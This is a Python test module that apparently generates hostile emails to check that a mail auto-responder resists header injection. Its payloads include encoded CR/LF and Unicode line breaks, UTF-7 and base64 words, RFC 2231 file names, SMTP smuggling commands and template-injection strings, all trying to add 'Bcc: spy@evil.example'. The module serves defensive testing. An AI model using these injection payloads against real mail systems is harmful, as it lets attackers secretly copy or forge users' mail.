"""Header injection by every route: words of a mail that would be headers of ours, or template language."""

import base64
from collections.abc import Iterator

from tricky_mails.mail import ID, OFFICER, TEXT, WORDS, Tricky, answered, mail, parts

SPY = "Bcc=3A_spy=40evil.example"
BASE64 = base64.b64encode(b"a\r\nBcc: spy@evil.example").decode()
ENCODED = {
    "CR LF": f"=?utf-8?q?a=0D=0A{SPY}?=",
    "an empty line": "=?utf-8?q?a=0D=0A=0D=0AEvil_words?=",
    "LF": f"=?utf-8?q?a=0A{SPY}?=",
    "CR": f"=?utf-8?q?a=0D{SPY}?=",
    "NUL": f"=?utf-8?q?a=00{SPY}?=",
    "vertical tab and form feed": f"=?utf-8?q?a=0B=0C{SPY}?=",
    "NEL": f"=?utf-8?q?a=C2=85{SPY}?=",
    "NEL of Latin-1": f"=?iso-8859-1?q?a=85{SPY}?=",
    "the line separator": f"=?utf-8?q?a=E2=80=A8{SPY}?=",
    "the paragraph separator": f"=?utf-8?q?a=E2=80=A9{SPY}?=",
    "base64": f"=?utf-8?b?{BASE64}?=",
    "UTF-7": f"=?utf-7?q?a+AA0ACg-{SPY}?=",
    "encoded twice": "=?utf-8?q?=3D=3Futf-8=3Fq=3Fa=3D0ABcc=3A=5Fspy=40evil.example=3F=3D?=",
    "split between two words": f"=?utf-8?q?a=0D?= =?utf-8?q?=0A{SPY}?=",
    "CVE-2024-6923": f"=?utf-8?q?a=0A{SPY}?= é",
    "right to left": "=?utf-8?q?a=E2=80=AEelpmaxe.live@yps?=",
    "template language": "{{ 7*7 }} {% include 'layout.txt.j2' %} %s %n {0} ${x} <script>",
}
"""What a decoder makes line ends and their like of."""

IDS = {
    "a blank": "<a b@town.example>",
    "no brackets": "reply@town.example",
    "nothing": "",
    "an odd byte": "<a\udcffb@town.example>",
    "a letter beyond ASCII": "<ä@town.example>",
    "700 characters": f"<{'a' * 350}@{'b' * 350}.town.example>",
}
"""Message-IDs that our letter must not repeat."""
AROUND = {
    "a folded header": f"{ID}\n Bcc: spy@evil.example",
    "another id": f"{ID} <b@town.example>",
    "a bracket": f"<a{ID}",
    "a comment": f"(Bcc: spy@evil.example) {ID}",
    "an encoded line end": "=?utf-8?q?=3Creply=40town.example=3E=0ABcc:_spy@evil.example?=",
}
"""Words around an id: only the id itself may be repeated."""

SMTP = "\n.\nMAIL FROM:<spy@evil.example>\nRCPT TO:<spy@evil.example>\nDATA\nSubject: evil\n\nx\n.\n"
FILE = 'Content-Type: application/pdf; name="{0}"\nContent-Disposition: attachment; {1}\n\n%PDF-1.4'


def injections() -> Iterator[Tricky]:
    yield from _by_encoded_words()
    yield from _by_ids()
    yield from _by_names_of_files()
    yield from _by_raw_bytes()


def _by_encoded_words() -> Iterator[Tricky]:
    for what, word in ENCODED.items():
        yield answered(f"{what} in the subject", mail(Subject=f"Re: {word}"))
        yield answered(f"{what} in the sender's name", mail(From=f"{word.replace('<script>', '')} <{OFFICER}>"))
        quoted = word.replace("\\", "").replace('"', "")
        yield answered(f"{what} in a quoted name", mail(From=f'"{quoted}" <{OFFICER}>'))


def _by_ids() -> Iterator[Tricky]:
    for what, word in IDS.items():
        yield answered(f"a Message-ID with {what}", mail(Message_ID=word), thread=False)
        yield answered(f"References with {what}", mail(f"References: <first@town.example> {word}"))
        yield answered(f"In-Reply-To with {what}", mail(f"In-Reply-To: {word}"))
    for what, word in AROUND.items():
        yield answered(f"a Message-ID and {what}", mail(Message_ID=word))
        yield answered(f"References and {what}", mail(f"References: {word}"))
    yield answered("no Message-ID", mail(Message_ID=None), thread=False)
    yield answered("two Message-IDs", mail("Message-ID: <other@town.example>"))
    yield answered("1,000 references", mail("References: " + "\n ".join(f"<{n}@town.example>" for n in range(1000))))
    encoded = "<a=0D=0ABcc:spy@evil.example>"  # every character of it may stand in an id
    yield answered("an id that would be a header if it were decoded", mail(Message_ID=encoded))
    yield answered("References whose id would be a header if it were decoded", mail(f"References: {encoded}"))


def _by_names_of_files() -> Iterator[Tricky]:
    for what, word in ENCODED.items():
        one = FILE.format("a.pdf", f'filename="{word}.pdf"')
        yield answered(f"{what} in a file's name", mail(**parts("multipart/mixed", WORDS, one)))
    for name in (
        "a%0D%0ABcc%3A%20spy@evil.example.pdf",
        "a%00b.pdf",
        "%E2%80%A8Bcc:%20spy@evil.example",
        "a%0D%0A.%0D%0A",
    ):
        one = FILE.format("a.pdf", f"filename*=utf-8''{name}")
        yield answered(f"a file named {name} (RFC 2231)", mail(**parts("multipart/mixed", WORDS, one)))


def _by_raw_bytes() -> Iterator[Tricky]:
    yield answered("a CR alone in the subject", mail(Subject="Re: a\rBcc: spy@evil.example"))
    yield answered("a NUL in the subject", mail(Subject="Re: a\0b"))
    yield answered("an odd byte in the subject", mail(Subject="Re: a\udcff\udc85b"))
    yield answered("a line separator in the subject", mail(Subject="Re: a\u2028Bcc: spy@evil.example"))
    yield answered("a folded subject that reads as a header", mail(Subject="Re: a\n Bcc: spy@evil.example"))
    yield answered("a subject of 20 KB", mail(Subject="Re: " + "a" * 20_000))
    yield answered("line ends of Unix", mail().replace(b"\r\n", b"\n"))
    yield answered("SMTP commands in the text", mail(text=TEXT + SMTP))
    yield answered("template language in the text", mail(text=TEXT + ENCODED["template language"]))
    yield answered("a link with line ends", mail(text=TEXT + "\nhttps://town.example/a%0D%0ABcc:%20spy@evil.example\n"))
    for name in ("Reply-To", "Sender", "Organization", "Thread-Topic", "Resent-Message-ID", "X-Mailer"):
        yield answered(f"line ends in {name}", mail(f"{name}: {ENCODED['CR LF']} <spy@evil.example>"))
    yield answered("line ends in the date", mail(Date=ENCODED["LF"]))
    yield answered("line ends in our own name", mail(To=f"{ENCODED['LF']} <replies@lga.example>"))
    yield answered(
        "a character set of two lines", mail('Content-Type: text/plain; charset="a\n Bcc: spy@evil.example"')
    )
